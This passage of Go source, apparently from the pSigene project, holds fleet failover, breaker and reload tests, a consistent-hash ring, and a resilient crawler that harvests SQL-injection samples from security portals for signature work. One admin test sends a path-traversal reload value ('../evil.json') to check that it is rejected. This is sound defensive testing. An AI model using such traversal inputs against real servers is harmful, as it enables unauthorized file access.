		t.Fatalf("dirty failure replayed: body %q", got)
	}
	if f.stats.failovers.Load() != 0 || ns.n != 0 {
		t.Fatalf("dirty failure retried: failovers=%d sleeps=%d", f.stats.failovers.Load(), ns.n)
	}
	if f.replicas[order[0]].failures.Load() != 1 {
		t.Fatal("dirty failure not counted against the replica")
	}
}

func TestAllReplicasDownSheds(t *testing.T) {
	f, _, _ := testFront(2, Options{Seed: 9})
	_ = f.Kill(0)
	_ = f.Kill(1)
	w := getFrom(f, "203.0.113.1:4000", "/p?id=1")
	if w.Code != http.StatusServiceUnavailable {
		t.Fatalf("all-down status %d, want 503", w.Code)
	}
	if w.Header().Get("Retry-After") == "" {
		t.Fatal("fleet 503 must carry Retry-After")
	}
	if f.stats.unavailable.Load() != 1 {
		t.Fatalf("unavailable %d, want 1", f.stats.unavailable.Load())
	}
}

// TestEjectionAndReadmission walks the full health cycle: consecutive
// failures eject the home replica, ejected dispatches skip it with zero
// added latency, the post-cooldown probe against a still-dead replica
// re-ejects it, and after revival the probe readmits it.
func TestEjectionAndReadmission(t *testing.T) {
	f, _, ns := testFront(3, Options{Seed: 9, BreakerThreshold: 2, BreakerCooldown: 3})
	order := homeOf(f, "203.0.113.1")
	home := f.replicas[order[0]]
	remote := "203.0.113.1:4000"
	serve := func() *httptest.ResponseRecorder { return getFrom(f, remote, "/p?id=1") }

	_ = f.Kill(order[0])
	serve() // failure 1
	serve() // failure 2 -> ejected
	if home.ejections.Load() != 1 || home.breakerState().State != resilience.BreakerOpen {
		t.Fatalf("not ejected after threshold: ejections=%d state=%v", home.ejections.Load(), home.breakerState())
	}

	// While ejected: requests skip the home replica without failover
	// accounting or backoff — the ring walk just moves on.
	sleepsBefore := ns.n
	for i := 0; i < 3; i++ { // consumes the cooldown ticks
		w := serve()
		if w.Body.String() != fmt.Sprintf("replica-%d", order[1]) {
			t.Fatalf("ejected dispatch %d served by %q", i, w.Body.String())
		}
	}
	if ns.n != sleepsBefore {
		t.Fatal("skipping an ejected replica must not back off")
	}

	// Cooldown spent: the next request is the readmission probe. Still
	// dead, so it fails, re-ejects, and fails over.
	serve()
	if home.ejections.Load() != 2 {
		t.Fatalf("failed probe did not re-eject: ejections=%d", home.ejections.Load())
	}

	// Revive, burn the new cooldown, and the next probe readmits.
	_ = f.Revive(order[0])
	for i := 0; i < 3; i++ {
		serve()
	}
	w := serve()
	if w.Body.String() != fmt.Sprintf("replica-%d", order[0]) {
		t.Fatalf("readmission probe served by %q, want home", w.Body.String())
	}
	if home.readmissions.Load() != 1 {
		t.Fatalf("readmissions %d, want 1", home.readmissions.Load())
	}
	if home.breakerState().State != resilience.BreakerClosed {
		t.Fatalf("readmitted replica breaker %v, want closed", home.breakerState().State)
	}
}

func TestActiveProbeEjectsNotReadyReplica(t *testing.T) {
	f, stubs, _ := testFront(3, Options{Seed: 9, BreakerThreshold: 2, ProbeEvery: 2})
	stubs[2].ready = false // draining replica: serves nothing new, answers readyz false
	for i := 0; i < 4; i++ {
		getFrom(f, "203.0.113.7:4000", "/p?id=1")
	}
	// Two sweeps (dispatches 2 and 4) x one failure each = ejected,
	// without a single client-visible failure on replica 2.
	if f.replicas[2].ejections.Load() != 1 {
		t.Fatalf("not-ready replica not ejected by active probes: %d", f.replicas[2].ejections.Load())
	}
	if f.stats.probeSweeps.Load() != 2 {
		t.Fatalf("probe sweeps %d, want 2", f.stats.probeSweeps.Load())
	}
}

func TestReloadTwoPhaseCommit(t *testing.T) {
	f, stubs, _ := testFront(3, Options{Seed: 9})
	gen, err := f.SwapAllTagged(stubDetector{}, "vB", "hashB")
	if err != nil {
		t.Fatalf("SwapAllTagged: %v", err)
	}
	if gen != 2 || f.Generation() != 2 {
		t.Fatalf("fleet generation %d, want 2", gen)
	}
	for _, s := range stubs {
		if s.version != "vB" || len(s.swaps) != 1 {
			t.Fatalf("replica %d: version %q swaps %v", s.id, s.version, s.swaps)
		}
	}
	if snap := f.Snapshot(); snap.MixedModel || snap.Reloads != 1 {
		t.Fatalf("snapshot after commit: %+v", snap)
	}
}

func TestReloadProbeFailureSwapsNothing(t *testing.T) {
	f, stubs, _ := testFront(3, Options{Seed: 9})
	stubs[1].probeErr = fmt.Errorf("candidate rejected on replica 1")
	if _, err := f.SwapAllTagged(stubDetector{}, "vB", "hashB"); err == nil {
		t.Fatal("probe failure must reject the reload")
	}
	for _, s := range stubs {
		if len(s.swaps) != 0 || s.version != "vA" {
			t.Fatalf("replica %d swapped despite probe failure: %v", s.id, s.swaps)
		}
	}
	if f.Generation() != 1 {
		t.Fatalf("generation advanced to %d on a rejected reload", f.Generation())
	}
	if s := f.Snapshot(); s.ReloadFailures != 1 || s.Rollbacks != 0 {
		t.Fatalf("stats after probe failure: %+v", s)
	}
}

func TestReloadCommitFailureRollsBack(t *testing.T) {
	hook := func(rep int) error {
		if rep == 2 {
			return fmt.Errorf("replica 2 wedged at commit")
		}
		return nil
	}
	f, stubs, _ := testFront(3, Options{Seed: 9, CommitHook: hook})
	if _, err := f.SwapAllTagged(stubDetector{}, "vB", "hashB"); err == nil {
		t.Fatal("commit failure must reject the reload")
	}
	// Replicas 0 and 1 committed vB then rolled back to vA; replica 2
	// never swapped. The fleet ends uniform on vA.
	for _, s := range stubs[:2] {
		want := []string{"vB", "vA"}
		if len(s.swaps) != 2 || s.swaps[0] != want[0] || s.swaps[1] != want[1] {
			t.Fatalf("replica %d swap history %v, want %v", s.id, s.swaps, want)
		}
		if s.version != "vA" {
			t.Fatalf("replica %d not rolled back: %q", s.id, s.version)
		}
	}
	if len(stubs[2].swaps) != 0 {
		t.Fatalf("failing replica swapped: %v", stubs[2].swaps)
	}
	snap := f.Snapshot()
	if snap.MixedModel {
		t.Fatal("fleet mixed after rollback")
	}
	if snap.Generation != 1 || snap.Rollbacks != 1 || snap.ReloadFailures != 1 {
		t.Fatalf("stats after rollback: %+v", snap)
	}
}

func TestRollbackFailureStrandsAndEjects(t *testing.T) {
	commitHook := func(rep int) error {
		if rep == 2 {
			return fmt.Errorf("replica 2 wedged at commit")
		}
		return nil
	}
	f, stubs, _ := testFront(3, Options{Seed: 9, CommitHook: commitHook})
	// Replica 0 accepts the vB commit but refuses the vA rollback — the
	// stranded-on-new-model case.
	stubs[0].swapHook = func(version string) error {
		if version == "vA" {
			return fmt.Errorf("rollback refused")
		}
		return nil
	}
	if _, err := f.SwapAllTagged(stubDetector{}, "vB", "hashB"); err == nil {
		t.Fatal("commit failure must reject the reload")
	}
	if !f.replicas[0].down.Load() {
		t.Fatal("stranded replica must be ejected")
	}
	snap := f.Snapshot()
	if snap.RollbackFailures != 1 {
		t.Fatalf("rollback failures %d, want 1", snap.RollbackFailures)
	}
	// The stranded replica is down, so even though it serves a different
	// model identity, it serves no traffic; statz still screams about it.
	if !snap.MixedModel {
		t.Fatal("stranded replica must surface as mixed model")
	}
}

func TestAdminSurface(t *testing.T) {
	f, stubs, _ := testFront(3, Options{Seed: 9})
	admin := f.Admin(AdminConfig{Token: "sekrit"})

	if w := getFrom(admin, "1.2.3.4:5", "/-/statz"); w.Code != http.StatusUnauthorized {
		t.Fatalf("tokenless statz: %d, want 401", w.Code)
	}
	authGet := func(target string) *httptest.ResponseRecorder {
		w := httptest.NewRecorder()
		r := httptest.NewRequest(http.MethodGet, target, nil)
		r.Header.Set("Authorization", "Bearer sekrit")
		admin.ServeHTTP(w, r)
		return w
	}

	if w := authGet("/-/healthz"); w.Code != http.StatusOK {
		t.Fatalf("healthz: %d", w.Code)
	}
	if w := authGet("/-/readyz"); w.Code != http.StatusOK {
		t.Fatalf("readyz: %d", w.Code)
	}

	var snap FleetSnapshot
	w := authGet("/-/statz")
	if err := json.Unmarshal(w.Body.Bytes(), &snap); err != nil {
		t.Fatalf("statz JSON: %v", err)
	}
	if snap.Replicas != 3 || len(snap.ReplicaStates) != 3 {
		t.Fatalf("statz replicas: %+v", snap)
	}

	m := authGet("/-/metrics").Body.String()
	for _, want := range []string{
		"psigened_fleet_requests_total",
		`psigened_fleet_replica_breaker_state{replica="0"}`,
		`psigened_fleet_replica_model_info{replica="2",version="vA",sha256="hashA"} 1`,
		"psigened_fleet_mixed_model 0",
	} {
		if !strings.Contains(m, want) {
			t.Fatalf("metrics missing %q in:\n%s", want, m)
		}
	}

	// Readiness fails only when no replica can serve.
	_ = f.Kill(0)
	_ = f.Kill(1)
	stubs[2].ready = false
	if w := authGet("/-/readyz"); w.Code != http.StatusServiceUnavailable {
		t.Fatalf("readyz with no live replica: %d, want 503", w.Code)
	}

	// Reload endpoint confinement mirrors the gateway's.
	post := func(target string) *httptest.ResponseRecorder {
		w := httptest.NewRecorder()
		r := httptest.NewRequest(http.MethodPost, target, nil)
		r.Header.Set("Authorization", "Bearer sekrit")
		admin.ServeHTTP(w, r)
		return w
	}
	if w := post("/-/reload?path=x.json"); w.Code != http.StatusForbidden {
		t.Fatalf("reload without model dir: %d, want 403", w.Code)
	}
	admin2 := f.Admin(AdminConfig{ModelDir: t.TempDir()})
	if w := adminPost(admin2, "/-/reload?path=../evil.json"); w.Code != http.StatusBadRequest {
		t.Fatalf("traversal reload: %d, want 400", w.Code)
	}
	if w := adminPost(admin2, "/-/reload"); w.Code != http.StatusBadRequest {
		t.Fatalf("pathless reload: %d, want 400", w.Code)
	}
	if w := getFrom(admin2, "1.2.3.4:5", "/-/reload?path=x.json"); w.Code != http.StatusMethodNotAllowed {
		t.Fatalf("GET reload: %d, want 405", w.Code)
	}
}

func adminPost(h http.Handler, target string) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest(http.MethodPost, target, nil))
	return w
}

func TestDrainDrainsEveryReplica(t *testing.T) {
	f, stubs, _ := testFront(3, Options{Seed: 9})
	if err := f.Drain(context.Background()); err != nil {
		t.Fatalf("Drain: %v", err)
	}
	for _, s := range stubs {
		if !s.drained {
			t.Fatalf("replica %d not drained", s.id)
		}
	}
}
