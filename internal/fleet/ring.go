package fleet

import (
	"sort"
	"strconv"

	"psigene/internal/resilience"
)

// ring is the consistent-hash ring the front routes callers over. Every
// replica owns VirtualNodes points on a 64-bit circle; a caller key hashes
// to a position and is served by the replica owning the first point at or
// clockwise of it. Virtual nodes smooth the per-replica key share, and
// consistent hashing is what makes failover cheap: when a replica is
// ejected, only its own keys move — to the next distinct replica on the
// ring — while every other caller keeps its affinity (and therefore its
// per-client admission state) untouched.
//
// The ring is immutable after construction. Ejection does not rebuild it:
// the walk order is fixed, and health is consulted per dispatch, so the
// routing decision stays a pure function of (seed, key, breaker states) —
// the property the chaos suite's bit-identical transcripts rest on.
type ring struct {
	points   []ringPoint // sorted by hash, ties broken by replica id
	replicas int
}

// ringPoint is one virtual node.
type ringPoint struct {
	hash    uint64
	replica int
}

// buildRing places virtual nodes for each replica. Point positions are
// resilience.HashKey over a synthetic per-vnode key, so the layout is a
// pure function of (seed, replicas, virtual).
func buildRing(seed int64, replicas, virtual int) ring {
	pts := make([]ringPoint, 0, replicas*virtual)
	for r := 0; r < replicas; r++ {
		for v := 0; v < virtual; v++ {
			key := "replica-" + strconv.Itoa(r) + "/vnode-" + strconv.Itoa(v)
			pts = append(pts, ringPoint{hash: resilience.HashKey(seed, key), replica: r})
		}
	}
	sort.Slice(pts, func(i, j int) bool {
		if pts[i].hash != pts[j].hash {
			return pts[i].hash < pts[j].hash
		}
		return pts[i].replica < pts[j].replica
	})
	return ring{points: pts, replicas: replicas}
}

// walk appends to out the distinct replica ids in ring order starting at
// the first point at or clockwise of h, until every replica appears once.
// out[0] is the caller's home replica; the rest is its deterministic
// failover order.
func (rg ring) walk(h uint64, out []int) []int {
	start := sort.Search(len(rg.points), func(k int) bool { return rg.points[k].hash >= h })
	for i := 0; i < len(rg.points) && len(out) < rg.replicas; i++ {
		p := rg.points[(start+i)%len(rg.points)]
		seen := false
		for _, id := range out {
			if id == p.replica {
				seen = true
				break
			}
		}
		if !seen {
			out = append(out, p.replica)
		}
	}
	return out
}
