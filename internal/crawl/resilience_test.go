package crawl

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestParseRetryAfter(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"3", 3}, {" 10 ", 10}, {"0", 0}, {"-1", 0}, {"", 0}, {"soon", 0},
	}
	for _, c := range cases {
		if got := parseRetryAfter(c.in); got != c.want {
			t.Fatalf("parseRetryAfter(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestBackoffJitterSeededAndBounded(t *testing.T) {
	a, b := New(Options{Seed: 7}), New(Options{Seed: 7})
	other := New(Options{Seed: 8})
	differs := false
	for attempt := 0; attempt < 6; attempt++ {
		da, db := a.backoff(attempt), b.backoff(attempt)
		if da != db {
			t.Fatalf("attempt %d: same seed, different jitter: %v vs %v", attempt, da, db)
		}
		if other.backoff(attempt) != da {
			differs = true
		}
		bound := a.opts.BackoffBase << uint(attempt)
		if bound > a.opts.BackoffMax || bound <= 0 {
			bound = a.opts.BackoffMax
		}
		if da < 0 || da >= bound {
			t.Fatalf("attempt %d: backoff %v outside [0, %v)", attempt, da, bound)
		}
	}
	if !differs {
		t.Fatal("different seeds produced identical jitter sequences")
	}
}

// sleepRecorder collects requested sleep durations without sleeping.
type sleepRecorder struct {
	mu    sync.Mutex
	slept []time.Duration
}

func (s *sleepRecorder) Sleep(d time.Duration) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.slept = append(s.slept, d)
}

func (s *sleepRecorder) count(d time.Duration) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, got := range s.slept {
		if got == d {
			n++
		}
	}
	return n
}

func TestRetryAfterHonored(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits.Add(1) <= 2 {
			w.Header().Set("Retry-After", "3")
			http.Error(w, "rate limited", http.StatusTooManyRequests)
			return
		}
		_, _ = w.Write([]byte("<html><body><pre>http://x/a.php?id=1</pre></body></html>"))
	}))
	defer srv.Close()

	rec := &sleepRecorder{}
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep, MaxPages: 1})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatalf("CrawlHTML: %v", err)
	}
	if res.Health.RateLimited != 2 || res.Health.Retries != 2 {
		t.Fatalf("health = %+v, want 2 rate-limited retries", res.Health)
	}
	if got := rec.count(3 * time.Second); got != 2 {
		t.Fatalf("recorded %d sleeps of 3s (all: %v), want 2 Retry-After waits", got, rec.slept)
	}
	if len(res.Samples) != 1 {
		t.Fatalf("samples = %v, want the page harvested after recovery", res.Samples)
	}
}

func TestQuarantineContinues(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write([]byte(`<html><body><a href="/bad">x</a><a href="/good">y</a></body></html>`))
	})
	mux.HandleFunc("/bad", func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "boom", http.StatusInternalServerError) // persistent
	})
	mux.HandleFunc("/good", func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("<html><body><pre>http://x/g.php?id=2</pre></body></html>"))
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	rec := &sleepRecorder{}
	// Breaker off: this test isolates quarantine (the persistent /bad would
	// otherwise trip the host breaker and take /good down with it).
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep, BreakerThreshold: -1})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatalf("CrawlHTML: %v", err)
	}
	if res.Health.PagesSkipped != 1 {
		t.Fatalf("health = %+v, want exactly one quarantined page", res.Health)
	}
	if len(res.Health.Quarantined) != 1 || !strings.HasSuffix(res.Health.Quarantined[0], "/bad") {
		t.Fatalf("quarantined = %v", res.Health.Quarantined)
	}
	if len(res.Samples) != 1 || res.Samples[0].Path != "/g.php" {
		t.Fatalf("samples = %+v, want the good page's sample", res.Samples)
	}
}

func TestBodyCapQuarantinesOversizedPage(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("<html>" + strings.Repeat("A", 1<<16) + "</html>"))
	}))
	defer srv.Close()

	rec := &sleepRecorder{}
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep, MaxBodyBytes: 1 << 10})
	res, err := c.CrawlHTML(srv.URL)
	if !errors.Is(err, ErrNoPages) {
		t.Fatalf("err = %v, want ErrNoPages (the only page is oversized)", err)
	}
	if res.Health.PagesSkipped != 1 || res.Health.Retries != 0 {
		t.Fatalf("health = %+v, want one permanent skip with no retries", res.Health)
	}
}

func TestTimeoutThenRecovery(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits.Add(1) == 1 {
			<-r.Context().Done() // stall until the client's timeout fires
			return
		}
		_, _ = w.Write([]byte("<html><body><pre>http://x/t.php?id=3</pre></body></html>"))
	}))
	defer srv.Close()

	rec := &sleepRecorder{}
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep, Timeout: 100 * time.Millisecond, MaxPages: 1})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatalf("CrawlHTML: %v", err)
	}
	if res.Health.Retries == 0 {
		t.Fatalf("health = %+v, want at least one retry after the hang", res.Health)
	}
	if len(res.Samples) != 1 {
		t.Fatalf("samples = %v", res.Samples)
	}
}

func TestBreakerTripsOnMeltdown(t *testing.T) {
	// The index works and links three doomed pages; every other page 502s
	// persistently. The first doomed page burns its retry budget and trips
	// the breaker; the rest mostly fail fast on the open breaker.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" {
			_, _ = w.Write([]byte(`<html><body>` +
				`<a href="/a">a</a><a href="/b">b</a><a href="/c">c</a>` +
				`</body></html>`))
			return
		}
		http.Error(w, "boom", http.StatusBadGateway)
	}))
	defer srv.Close()

	rec := &sleepRecorder{}
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep, BreakerThreshold: 3, BreakerCooldown: 4})
	res, err := c.CrawlHTML(srv.URL)
	if err != nil {
		t.Fatalf("CrawlHTML: %v", err)
	}
	if res.Health.BreakerTrips == 0 {
		t.Fatalf("health = %+v, want breaker trips", res.Health)
	}
	if res.Health.BreakerSkips == 0 {
		t.Fatalf("health = %+v, want fast-failed attempts while open", res.Health)
	}
	if res.Health.PagesSkipped != 3 {
		t.Fatalf("health = %+v, want all three doomed pages quarantined", res.Health)
	}
}

func TestCheckpointJSONRoundTrip(t *testing.T) {
	cp := &Checkpoint{
		Version:     checkpointVersion,
		Portal:      "http://p",
		Kind:        "html",
		Frontier:    []string{"http://p/x", "http://p/y"},
		Visited:     []string{"http://p/"},
		SeenSamples: []string{"http://t/a?id=1"},
		CVEs:        []string{"CVE-2012-3554"},
		Health:      Health{PagesFetched: 1, Retries: 2},
		Breakers:    map[string]BreakerSnapshot{"p:80": {State: BreakerOpen, Remaining: 3}},
	}
	var b strings.Builder
	if err := cp.Encode(&b); err != nil {
		t.Fatal(err)
	}
	got, err := DecodeCheckpoint(strings.NewReader(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	if got.Portal != cp.Portal || got.Kind != cp.Kind || len(got.Frontier) != 2 ||
		got.Health.Retries != 2 || got.Breakers["p:80"].Remaining != 3 {
		t.Fatalf("round trip = %+v", got)
	}
	if _, err := DecodeCheckpoint(strings.NewReader(`{"version":99,"kind":"html"}`)); err == nil {
		t.Fatal("wrong version must be rejected")
	}
	if _, err := DecodeCheckpoint(strings.NewReader(`{"version":1,"kind":"weird"}`)); err == nil {
		t.Fatal("unknown kind must be rejected")
	}
}

func TestSaveLoadCheckpoint(t *testing.T) {
	path := t.TempDir() + "/cp.json"
	cp := &Checkpoint{Version: checkpointVersion, Portal: "http://p", Kind: "api", Offset: 40}
	if err := SaveCheckpoint(cp, path); err != nil {
		t.Fatal(err)
	}
	got, err := LoadCheckpoint(path)
	if err != nil {
		t.Fatal(err)
	}
	if got.Offset != 40 || got.Kind != "api" {
		t.Fatalf("loaded = %+v", got)
	}
}

func TestHostOf(t *testing.T) {
	cases := map[string]string{
		"http://h:8080/x/y?q=1": "h:8080",
		"http://h/x":            "h",
		"h/x":                   "h",
		"http://h":              "h",
	}
	for in, want := range cases {
		if got := hostOf(in); got != want {
			t.Fatalf("hostOf(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMaxPagesCountsQuarantined(t *testing.T) {
	// A portal that always 500s must terminate after MaxPages attempts,
	// not loop forever re-quarantining.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "down", http.StatusInternalServerError)
	}))
	defer srv.Close()
	rec := &sleepRecorder{}
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep, MaxPages: 3})
	res, err := c.CrawlAPI(srv.URL)
	if !errors.Is(err, ErrNoPages) {
		t.Fatalf("err = %v, want ErrNoPages", err)
	}
	if res.Health.PagesSkipped != 3 {
		t.Fatalf("health = %+v, want exactly MaxPages quarantined windows", res.Health)
	}
}

func TestFetchPermanentOn4xx(t *testing.T) {
	// A 4xx is permanent: no retries, and the (large) error body is
	// drained through the bounded reader, not slurped.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusNotFound)
		_, _ = w.Write([]byte(strings.Repeat("B", 1<<20)))
	}))
	defer srv.Close()
	rec := &sleepRecorder{}
	c := New(Options{Client: srv.Client(), Sleep: rec.Sleep})
	var h Health
	if _, _, err := c.fetch(srv.URL+"/x", nil, &h); err == nil {
		t.Fatal("404 must be a permanent error")
	}
	if h.Retries != 0 {
		t.Fatalf("health = %+v, want no retries for a 4xx", h)
	}
}

func TestFinishErrNoPagesOnlyWhenAttempted(t *testing.T) {
	// An empty frontier (nothing attempted) is not a down portal.
	c := New(Options{})
	st := newState("html", "http://p")
	st.queue = nil
	if res, err := c.finish(st); err != nil {
		t.Fatalf("finish on empty crawl: %v (res %+v)", err, res)
	}
}

func TestValidateHTML(t *testing.T) {
	if err := validateHTML("<html><body>x</body></html>"); err != nil {
		t.Fatalf("complete page rejected: %v", err)
	}
	if err := validateHTML("<html><body>cut off"); err == nil {
		t.Fatal("truncated page accepted")
	}
}
