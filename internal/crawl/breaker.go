package crawl

import "psigene/internal/resilience"

// The per-host circuit breaker moved to internal/resilience so the
// serving gateway could share the same clock-free request-count state
// machine. The crawl API keeps its original names as aliases — crawl
// checkpoints embed BreakerSnapshot, so the JSON shape must not move.
type (
	// BreakerState is a circuit breaker's position.
	BreakerState = resilience.BreakerState
	// BreakerSnapshot is a breaker's serializable state, carried inside
	// checkpoints so a resumed crawl continues with the same breaker
	// position.
	BreakerSnapshot = resilience.BreakerSnapshot
)

// Breaker states: closed (traffic flows), open (fail fast), half-open
// (one probe allowed).
const (
	BreakerClosed   = resilience.BreakerClosed
	BreakerOpen     = resilience.BreakerOpen
	BreakerHalfOpen = resilience.BreakerHalfOpen
)
