// Package crawl implements pSigene's first phase: the webcrawler that
// collects SQLi attack samples from public cybersecurity portals. It
// understands two portal surfaces — paginated HTML listings with advisory
// detail pages, and OSVDB-style JSON search APIs — extracts proof-of-concept
// URLs from fetched pages, and converts each into an attack request by the
// paper's rule: keep the query payload, drop address, port and path.
//
// The paper's crawl ran for three months against flaky public sites, so
// degraded upstreams are the normal case here, not an error: every fetch
// has a context timeout and a bounded-read body; retryable failures (5xx,
// 429, timeouts, resets, truncated or garbled pages) are retried with
// seeded full-jitter exponential backoff and Retry-After honoring; a
// per-host circuit breaker fails fast when a host melts down; pages that
// exhaust their retry budget are quarantined — counted and skipped — while
// the crawl continues; and the whole crawl state checkpoints to JSON so a
// killed crawl resumes with a bit-identical final corpus. All randomness
// is seeded and all sleeps go through an injectable sleeper, so crawls are
// deterministic functions of their inputs (psigenelint's walltime and
// randsource checks cover this package).
//
// A Crawler is not safe for concurrent use; crawl portals sequentially or
// give each goroutine its own Crawler.
package crawl

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"regexp"
	"sort"
	"strings"
	"time"

	"psigene/internal/httpx"
	"psigene/internal/resilience"
)

// Options configures a crawler. Zero values take resilient defaults.
type Options struct {
	// MaxPages bounds the number of pages processed (fetched or
	// quarantined) per portal. 0 means 200.
	MaxPages int
	// Delay is the politeness delay between fetches. 0 means none (tests).
	Delay time.Duration
	// Client is the HTTP client; nil means http.DefaultClient.
	Client *http.Client
	// Timeout is the per-request context timeout. 0 means 10s.
	Timeout time.Duration
	// MaxRetries is the retry budget per page after the first attempt.
	// 0 means 4; negative disables retries.
	MaxRetries int
	// BackoffBase and BackoffMax bound the exponential backoff between
	// retries (full jitter: uniform in [0, min(BackoffMax,
	// BackoffBase·2^attempt))). 0 means 250ms and 5s.
	BackoffBase time.Duration
	BackoffMax  time.Duration
	// MaxBodyBytes caps how much of a response body is read; larger
	// bodies quarantine the page. 0 means 4 MiB.
	MaxBodyBytes int64
	// APILimit is the page size requested from JSON search APIs; knowing
	// it lets the crawler skip past a quarantined window and keep paging.
	// 0 means 20.
	APILimit int
	// Seed drives retry jitter. 0 means 1.
	Seed int64
	// Sleep is the sleeper behind every delay (politeness, backoff,
	// Retry-After); nil means time.Sleep. Tests inject a recorder so
	// chaos runs finish without wall-clock waits.
	Sleep func(time.Duration)
	// BreakerThreshold is how many consecutive failures on one host open
	// its circuit breaker; BreakerCooldown is how many attempts the open
	// breaker fails fast before admitting a half-open probe (counted in
	// requests, not seconds, to keep crawls deterministic). 0 means 5
	// and 8; negative BreakerThreshold disables the breaker.
	BreakerThreshold int
	BreakerCooldown  int
	// CheckpointEvery is the page interval between Checkpoint callbacks;
	// 0 disables checkpointing. Checkpoint receives a full serializable
	// snapshot; returning ErrStop halts the crawl cleanly.
	CheckpointEvery int
	Checkpoint      func(*Checkpoint) error
}

func (o Options) withDefaults() Options {
	if o.MaxPages <= 0 {
		o.MaxPages = 200
	}
	if o.Client == nil {
		o.Client = http.DefaultClient
	}
	if o.Timeout <= 0 {
		o.Timeout = 10 * time.Second
	}
	if o.MaxRetries == 0 {
		o.MaxRetries = 4
	}
	if o.MaxRetries < 0 {
		o.MaxRetries = 0
	}
	if o.BackoffBase <= 0 {
		o.BackoffBase = 250 * time.Millisecond
	}
	if o.BackoffMax <= 0 {
		o.BackoffMax = 5 * time.Second
	}
	if o.MaxBodyBytes <= 0 {
		o.MaxBodyBytes = 4 << 20
	}
	if o.APILimit <= 0 {
		o.APILimit = 20
	}
	if o.Seed == 0 {
		o.Seed = 1
	}
	if o.Sleep == nil {
		o.Sleep = time.Sleep
	}
	if o.BreakerThreshold == 0 {
		o.BreakerThreshold = 5
	}
	if o.BreakerCooldown <= 0 {
		o.BreakerCooldown = 8
	}
	return o
}

// Crawler fetches portals and extracts attack samples.
type Crawler struct {
	opts     Options
	rng      *resilience.SplitMix64
	breakers map[string]*resilience.Breaker
}

// New returns a crawler.
func New(opts Options) *Crawler {
	o := opts.withDefaults()
	return &Crawler{
		opts:     o,
		rng:      resilience.NewSplitMix64(uint64(o.Seed)),
		breakers: map[string]*resilience.Breaker{},
	}
}

// Result is the outcome of crawling one portal.
type Result struct {
	// Portal is the crawled base URL.
	Portal string
	// Samples are the extracted attack requests (deduplicated, in
	// first-seen order).
	Samples []httpx.Request
	// PagesFetched counts successful HTTP fetches (mirrors
	// Health.PagesFetched).
	PagesFetched int
	// CVEs lists CVE identifiers seen on fetched pages.
	CVEs []string
	// Health counts the crawl's resilience events: retries, quarantined
	// pages, honored rate limits, breaker activity.
	Health Health
}

var (
	hrefRe = regexp.MustCompile(`(?i)href="([^"]+)"`)
	preRe  = regexp.MustCompile(`(?is)<(pre|code)[^>]*>(.*?)</(?:pre|code)>`)
	cveRe  = regexp.MustCompile(`CVE-\d{4}-\d{4,}`)
)

// CrawlHTML breadth-first crawls an HTML portal starting at baseURL,
// following same-site links, and extracts attack sample URLs from <pre>
// proof-of-concept blocks. On a degraded portal the returned Result is
// partial and err reports what was lost; only a portal yielding no pages
// at all is a hard error (ErrNoPages).
func (c *Crawler) CrawlHTML(baseURL string) (*Result, error) {
	return c.crawlHTML(newState("html", baseURL))
}

// CrawlAPI pages through an OSVDB-style JSON search API at
// baseURL/api/search, collecting samples from each result entry. A
// quarantined page window is skipped (the crawler controls the paging
// limit, so it can advance past it) and the crawl continues.
func (c *Crawler) CrawlAPI(baseURL string) (*Result, error) {
	return c.crawlAPI(newState("api", baseURL))
}

// Resume continues a crawl from a checkpoint. Against the same portal
// content, a killed-and-resumed crawl produces the same corpus as one
// that never stopped: the checkpoint carries the frontier, dedup sets,
// collected samples, health counters, and breaker states.
func (c *Crawler) Resume(cp *Checkpoint) (*Result, error) {
	st := stateFromCheckpoint(cp)
	c.restoreBreakers(cp.Breakers)
	if cp.Kind == "api" {
		return c.crawlAPI(st)
	}
	return c.crawlHTML(st)
}

// processed is the page budget consumed so far: successes plus
// quarantined pages, so a melting-down portal still terminates.
func (c *Crawler) processed(st *crawlState) int {
	return st.res.Health.PagesFetched + st.res.Health.PagesSkipped
}

func (c *Crawler) crawlHTML(st *crawlState) (*Result, error) {
	res := st.res
	for len(st.queue) > 0 && c.processed(st) < c.opts.MaxPages {
		page := st.queue[0]
		st.queue = st.queue[1:]
		if st.seenPages[page] {
			continue
		}
		st.seenPages[page] = true

		body, _, err := c.fetch(page, validateHTML, &res.Health)
		if err != nil {
			quarantine(st, page)
			if err := c.tick(st); err != nil {
